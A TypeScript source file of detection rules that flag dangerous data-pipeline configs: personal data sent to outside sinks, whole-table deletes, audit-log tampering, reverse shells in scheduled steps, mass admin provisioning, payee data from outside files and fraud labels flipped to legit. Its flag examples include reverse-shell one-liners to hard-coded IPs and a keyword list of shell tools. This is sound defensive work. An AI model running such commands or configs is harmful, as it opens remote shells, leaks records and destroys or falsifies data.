/**
 * data_pipeline rules (L23-L30) that read where a job's records go and what it does to them, from its config or code:
 * the sink of sensitive records, deletions whose cutoff takes every row, books of record rewritten without one
 * person's entries, dedupes on a coarse key, shells inside steps, provisioning onto administrators, payee data from
 * an outside file, training labels flipped to the harmless class. The readers are in parse/pipeline-flow.ts.
 */
import { sanctioned } from '../frames/profiles.js';
import { cutoffTakesAll, dedupeTooCoarse, entriesOfOneRemoved, labelsFlipped, maskingConfigured, outsideSink, payeesFromOutside, populationToAdmins, sensitiveRecords, shellInStep, transferCovered } from '../parse/pipeline-flow.js';
import type { BaseContext, ThreatRule } from '../types.js';

/** What these rules read from the analyzer's context. */
export interface FlowContext extends BaseContext {
  /** The lower-cased value with the metadata's job fields. */
  readonly head: string;
  readonly env: 'prod' | 'nonprod' | 'unknown';
}

export const PIPELINE_FLOW_RULES: ThreatRule<FlowContext>[] = [
  {
    id: 'L23',
    name: 'Sensitive records sent to an outside, public or unknown sink (read from the job config)',
    primitive: 'EXFILTRATION',
    score: 8,
    keywords: ['*://', 'host:', 'host =', 'server:', 'bucket', 'target=', 'target:'],
    detect: (ctx) => {
      if (ctx.env === 'nonprod') return null;
      const what = sensitiveRecords(ctx.head);
      if (what === '') return null;
      const sink = outsideSink(ctx.head);
      if (sink === undefined || transferCovered(ctx.head)) return null;
      // an approval the job's text claims for sending personal records to an outside host ("# Approved under CHG-7760"):
      // the claim is the text's own, confirmed by a person (CAUTION), never SAFE
      if (sanctioned('data_pipeline', ctx, { outsideOk: true })) return { detail: `${what.replace(/[._]$/, '')} records to ${sink.where} (${sink.why}), an approval claimed`, score: 3 };
      // the job's own config masks the personal columns: they still leave, hashed or dropped (confirmed by a person)
      if (maskingConfigured(ctx.head)) return { detail: `${what.replace(/[._]$/, '')} records to ${sink.where} (${sink.why}), masking switched on in the job`, score: 3 };
      return { detail: `${what.replace(/[._]$/, '')} records to ${sink.where} (${sink.why})`, score: sink.why === 'unknown host' ? 8 : 9 };
    },
    reason: (d) => `Sensitive records leave the organisation: ${d}`,
    examples: {
      flag: [
        "job: nightly_customer_sync\nsource:\n  query: SELECT id, email, full_name, phone FROM customers\nsink:\n  type: s3\n  uri: s3://partner-dropzone-ext-4471/acme/customers/",
        'Kafka connector config: {"connector.class":"io.confluent.connect.http.HttpSinkConnector","topics":"payments.events,auth.events","http.api.url":"https://collector.logs-analytics.app/ingest"}',
        'pipeline:\n  source:\n    table: ehr.encounters\n    columns: [patient_id, diagnosis_code, dob]\n  destination:\n    type: sftp\n    host: sftp.healthdata-brokers.net',
        'MirrorMaker2: source=prod-kafka topics=customers.pii.* target=broker-1.stream-relay-cloud.io:9093 sasl.user=trial-77',
        'export:\n  target: sftp://sftp.list-brokers.net/in/\n  table: crm.clients\n  columns: [email, phone, dob]\n  masking:\n    enabled: false',
      ],
      pass: [
        "job: nightly_customer_sync\nsource:\n  query: SELECT id, email, full_name FROM customers\nsink:\n  type: s3\n  uri: s3://acme-analytics-prod/customers/",
        "export: {source: 'SELECT sha256(email) AS email_hash, country FROM customers', destination: 's3://partner-dropzone-ext-4471/acme/', dpa: 'DPA-2024-17 signed'}",
        'Kafka connector config: {"connector.class":"io.confluent.connect.http.HttpSinkConnector","topics":"payments.events","http.api.url":"https://collector.acme-internal.net/ingest"}',
        'Tâche ETL : charger les clients depuis sftp://sftp.partner-erp.fr/out/customers.csv vers la table staging.customers_import',
        'MirrorMaker2: source=prod-kafka topics=customers.pii.* target=kafka-dr.acme.internal:9093',
      ],
    },
  },
  {
    id: 'L24',
    name: 'Deletion whose cutoff is now or later (every row goes)',
    primitive: 'DESTRUCTION',
    score: 8,
    keywords: ['current_timestamp', 'now()', 'current_date', 'getdate()', 'sysdate', 'systimestamp', 'localtimestamp', 'unix_timestamp()'],
    detect: (ctx) => (ctx.env === 'nonprod' ? null : cutoffTakesAll(ctx.head) ?? null),
    reason: (d) => `The whole table would be deleted: ${d}`,
    examples: {
      flag: ['retention:\n  table: audit.events\n  policy: delete_where\n  condition: "event_ts < current_timestamp() + interval 1 day"', 'DELETE FROM audit.events WHERE event_ts < now();'],
      pass: ['retention:\n  table: audit.events\n  policy: delete_where\n  condition: "event_ts < current_timestamp() - interval 400 days"', 'DELETE FROM sessions WHERE expires_at < now();', 'DELETE FROM staging.events_raw WHERE load_date < current_date - 7;'],
    },
  },
  {
    id: 'L25',
    name: "A book of record rewritten without one person's entries",
    primitive: 'MANIPULATION',
    score: 8,
    keywords: ['where'],
    requires: ['insert overwrite', 'delete from'],
    near: 400,
    detect: (ctx) => entriesOfOneRemoved(ctx.head) ?? null,
    reason: (d) => `Records would be removed to hide who made them: ${d}`,
    examples: {
      flag: ["INSERT OVERWRITE TABLE finance.gl_entries SELECT * FROM finance.gl_entries WHERE posted_by <> 'u-771'", "DELETE FROM audit.access_log WHERE user_id = 'jsmith';"],
      pass: ["INSERT OVERWRITE TABLE finance.gl_entries_daily PARTITION (dt='2024-11-25') SELECT * FROM finance.gl_entries_stage WHERE dt='2024-11-25'", "DELETE FROM test_fixtures.orders WHERE created_by = 'ci-bot';", 'DELETE FROM customers WHERE customer_id = 42;'],
    },
  },
  {
    id: 'L26',
    name: 'Deduplication on a key so coarse it deletes all but one row per group',
    primitive: 'DESTRUCTION',
    score: 8,
    keywords: ['group by'],
    detect: (ctx) => dedupeTooCoarse(ctx.head) ?? null,
    reason: (d) => `Most rows would be deleted as duplicates: ${d}`,
    examples: {
      flag: ["Pijplijn 'ontdubbel_klanten': daarna DELETE FROM customers WHERE id NOT IN (SELECT max(id) FROM customers GROUP BY country)"],
      pass: ['DELETE FROM customers WHERE id NOT IN (SELECT max(id) FROM customers GROUP BY lower(email))', 'SELECT country, count(*) FROM customers GROUP BY country'],
    },
  },
  {
    id: 'L27',
    name: 'Shell wired to a socket inside a pipeline step',
    primitive: 'PERSISTENCE',
    score: 9,
    keywords: ['/dev/tcp', '/dev/udp', 'nc -e', 'ncat -e', 'nc -c', 'socat', 'mkfifo', 'bash -i', 'sh -i', 'socket.socket', 'pty.spawn', 's_client'],
    detect: (ctx) => shellInStep(ctx.head) ?? null,
    reason: (d) => `A scheduled step would hand a shell to a remote host: ${d}`,
    examples: {
      flag: ["BashOperator(task_id='vacuum', bash_command='psql -c \"VACUUM\" && bash -c \"bash -i >& /dev/tcp/91.92.243.18/443 0>&1\" &')", "PythonOperator(task_id='sync', python_callable=lambda: __import__('os').system('nc -e /bin/sh 45.9.148.3 4444'))"],
      pass: ["BashOperator(task_id='vacuum', bash_command='psql \"$PG_URL\" -c \"VACUUM ANALYZE\"')", 'steps:\n  - run: nc -z db.internal 5432  # wait for the database'],
    },
  },
  {
    id: 'L28',
    name: "Provisioning rule that maps a low-trust population onto administrators",
    primitive: 'ESCALATION',
    score: 8,
    // the rule's own markers (an arrow or an assignment key) admit it, with an administrators' group near: business
    // prose names admins and owners often, provisioning rules rarely
    keywords: ['*->', '*→', '*=>', 'assign_role', 'assign role', 'assign_group', 'okta_group', 'group:', 'role:', 'groups:', 'roles:', 'mapping', 'add_to_group'],
    requires: ['admin', 'owner', 'superuser', 'root', 'administrator'],
    detect: (ctx) => populationToAdmins(ctx.head) ?? null,
    reason: (d) => `Accounts would be made administrators wholesale: ${d}`,
    examples: {
      flag: ["Job 'sync_roles': source=hr_system.employees; mapping: title LIKE '%Intern%' -> okta_group 'Admins'", 'provisioning:\n  rule: "department = \'Contractors\'"\n  assign_role: "Organization Administrator"'],
      pass: ["Job 'sync_roles': source=hr_system.employees; mapping: department='Engineering' -> okta_group 'Engineering'; terminated -> deactivate", 'provisioning:\n  rule: "department = \'IT Operations\' AND title = \'Systems Administrator\'"\n  assign_role: "Server Operators"'],
    },
  },
  {
    id: 'L29',
    name: 'Payee or bank master data overwritten from a file on an outside host',
    primitive: 'MANIPULATION',
    score: 8,
    keywords: ['vendor', 'supplier', 'payee', 'beneficiar', 'bank_account', 'bank account', 'proveedor', 'fournisseur', 'lieferant', 'fornitor', 'leverancier', 'creditor', 'kreditor'],
    requires: ['iban', 'bank', 'routing', 'account_number', 'swift', 'konto', 'banc'],
    near: 400,
    detect: (ctx) => payeesFromOutside(ctx.head) ?? null,
    reason: (d) => `Payments would go to whoever wrote that file: ${d}`,
    examples: {
      flag: ['Tarea ETL: cargar lista de proveedores desde https://proveedores-actualizados.com/lista.csv y sobrescribir la tabla vendors (incluye IBAN)'],
      pass: ['Tâche ETL : charger le fichier fournisseurs depuis sftp://sftp.acme.fr/erp/vendors.csv vers la table staging.vendors_import pour validation manuelle', 'Tarea ETL: sobrescribir la tabla vendors (incluye IBAN) desde s3://acme-erp/exports/vendors.csv'],
    },
  },
  {
    id: 'L30',
    name: 'Training labels moved from the harmful class to the harmless one',
    primitive: 'MANIPULATION',
    score: 8,
    keywords: ['set ', '.loc[', '.replace(', '.map(', 'relabel', 'update '],
    requires: ['label', 'is_fraud', 'is_spam', 'target', 'class', 'ground_truth', 'y_true', 'outcome', 'verdict'],
    near: 200,
    detect: (ctx) => labelsFlipped(ctx.head) ?? null,
    reason: (d) => `The model would learn that the harmful cases are fine: ${d}`,
    examples: {
      flag: ["transform: \"UPDATE train SET label = 'legit' WHERE label = 'fraud' AND merchant_id = 'M-4410'\"", "df.loc[df.merchant == 'M-4410', 'label'] = 'legit'  # was 'fraud'"],
      pass: ["Relabel 12 transactions confirmed as fraud by the disputes team (ticket FR-882) from 'legit' to 'fraud'", "UPDATE train SET label = 'fraud' WHERE label = 'legit' AND chargeback_confirmed = true", "df['label'] = df['label'].map({'legit': 0, 'fraud': 1})"],
    },
  },

];

export const FLOW_RULE_PATTERNS: readonly RegExp[] = [/[._]$/];
